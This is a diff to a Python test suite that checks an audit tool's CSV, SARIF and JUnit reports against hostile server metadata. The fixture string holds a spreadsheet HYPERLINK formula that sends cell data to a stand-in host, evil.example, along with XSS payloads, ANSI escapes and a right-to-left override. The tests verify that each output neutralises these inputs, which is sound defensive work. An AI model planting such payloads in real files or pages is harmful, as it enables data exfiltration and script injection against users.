@@ -2,8 +2,8 @@
 
 The sandbox serves a source cloud whose server name, project description and
 server metadata carry HTML and script, ANSI escapes and other control
-characters, Markdown and table breakers, forged report lines, a NUL, a
-right-to-left override, a lone surrogate and 5000 more characters; the
+characters, Markdown and table breakers, a spreadsheet formula, forged report
+lines, a NUL, a right-to-left override, a lone surrogate and 5000 more characters; the
 target lacks that server and changed those fields, so the hostile text is in
 "missing" and "changed" findings. The audit runs over HTTP as users run it,
 and each format is checked with the tool that would read it.
@@ -11,6 +11,7 @@ and each format is checked with the tool that would read it.
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import html.parser
 import json
@@ -34,8 +35,10 @@ from tests.reliability.world import (
     serving,
     source_snapshot,
 )
+from tests.sarifschema import validate as validate_sarif
 
 HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"open")'
     "<script>alert('x')</script><img src=x onerror=alert(1)>"
     "\x1b[2J\x1b[31mred\x1b[0m | cell | `code` *bold* [link](javascript:alert(1)) "
     "\r\n== FAKE SECTION\n# heading \x00nul \x07bell \u202egnp.exe \u2066iso\u2069 \ud800 "
@@ -173,6 +176,43 @@ def test_junit_is_valid_xml_without_controls(
     _no_unsafe(xml, keep="\n")
     messages = [e.get("message") or "" for e in root.iter() if e.tag in ("failure", "skipped")]
     assert any("\\x1b[2J" in m for m in messages)
+
+
+def test_csv_runs_no_formula_and_shows_no_control(
+    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    text = _audit(tmp_path, capsys, "csv")
+
+    _no_unsafe(text)
+    rows = list(csv.DictReader(text.splitlines()))
+    (missing,) = [r for r in rows if r["kind"] == "missing"]
+    assert missing["source_name"].startswith("'=HYPERLINK(")  # shown as text, not run
+    assert "\\x1b[2J" in missing["source_name"]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value[:80]
+
+
+def test_sarif_is_valid_and_shows_no_control_where_people_read(
+    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = json.loads(_audit(tmp_path, capsys, "sarif"))
+
+    validate_sarif(doc)
+    results = doc["runs"][0]["results"]
+    (missing,) = [r for r in results if r["ruleId"] == "servers/missing"]
+    assert missing["properties"]["source"]["name"] == HOSTILE  # the data, verbatim
+    shown = [r["message"]["text"] for r in results]
+    shown += [
+        loc.get(key, "")
+        for r in results
+        for where in r["locations"]
+        for loc in where["logicalLocations"]
+        for key in ("name", "fullyQualifiedName")
+    ]
+    for text in shown:
+        _no_unsafe(text)
+    assert any("\\x1b[2J" in text for text in shown)
 
 
 def test_console_and_json_logs_stay_one_clean_line_per_event(
